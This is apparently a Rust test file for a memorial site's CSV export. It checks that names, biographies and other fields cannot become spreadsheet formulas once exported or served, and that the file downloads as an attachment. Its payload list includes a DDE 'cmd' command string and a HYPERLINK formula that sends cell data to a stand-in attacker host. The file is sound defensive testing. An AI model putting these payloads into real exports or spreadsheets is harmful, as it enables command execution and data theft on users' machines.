//! A table that is opened in a spreadsheet computes nothing that somebody sent.

use chrono::Utc;
use heroes_memorial::archive::export;
use heroes_memorial::names::Name;

use crate::lives::publish_life;
use crate::site::Site;

const FORMULAS: [&str; 14] = [
    "=1+1",
    "+380",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"…\")",
];

fn life(at: usize, formula: &str) -> String {
    // A name has letters and no markup: not every formula can be one, and those that can are.
    let name = format!("{formula}Ж");
    let name = match Name::parse(&name, &name, Some(&name)) {
        Ok(_) => name.as_str(),
        Err(_) => "Ж",
    };
    serde_json::json!({
        "external_id": format!("{formula}{at}"),
        "name": {"family": name, "given": name, "patronymic": name},
        "aliases": [formula], "call_sign": formula, "born_note": formula,
        "birth_place": {"settlement": formula, "region": "UA-18", "cemetery": formula},
        "service": [{"unit_text": formula, "rank_text": formula, "position": {"uk": formula, "en": formula}}],
        "events": [{"kind": "work", "text": {"uk": formula}}],
        "interests": {"uk": formula}, "biography": {"uk": formula, "en": formula},
        "awards": [{"award_text": formula}],
        "quotes": [{"text": {"uk": formula}, "speaker": formula, "relation": "sister"}],
        "sources": [{"title": formula, "url": "https://a.example"}],
    })
    .to_string()
}

/// Whether a spreadsheet would compute a cell: it begins with a sign, with or without white space or a mark before it.
fn computes(cell: &str) -> bool {
    let bare = cell.trim_start_matches(['\u{feff}', ' ', '\u{a0}']);
    bare.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

#[actix_web::test]
async fn no_cell_of_any_table_is_a_formula() {
    let site = Site::open().await;
    for (at, formula) in FORMULAS.iter().enumerate() {
        publish_life(&site, &life(at, formula));
    }
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("heroes.csv");
    let arguments = export::Arguments {
        file: file.clone(),
        photos: None,
    };
    export::export(&site.state.db, &arguments, Utc::now()).unwrap();
    let served = site.get("/data/heroes.csv").await.ok();
    for (table, bytes) in [
        ("export", std::fs::read(&file).unwrap()),
        ("/data/heroes.csv", served.bytes),
    ] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(false)
            .from_reader(bytes.as_slice());
        let (mut rows, mut guarded) = (0, 0);
        for row in reader.records() {
            for cell in &row.unwrap() {
                assert!(!computes(cell), "{table}: {cell:?}");
                guarded += usize::from(cell.starts_with('\''));
            }
            rows += 1;
        }
        assert_eq!(rows, FORMULAS.len() + 1, "{table}");
        assert!(
            guarded > FORMULAS.len(),
            "{table}: {guarded} cells are guarded"
        );
    }
    assert!(computes("＝1"), "the measure sees one");
    // A file that a browser opens by itself would not be saved as a table first.
    let answer = site.get("/data/heroes.csv").await.ok();
    assert!(
        answer
            .header("content-disposition")
            .unwrap()
            .starts_with("attachment")
    );
}
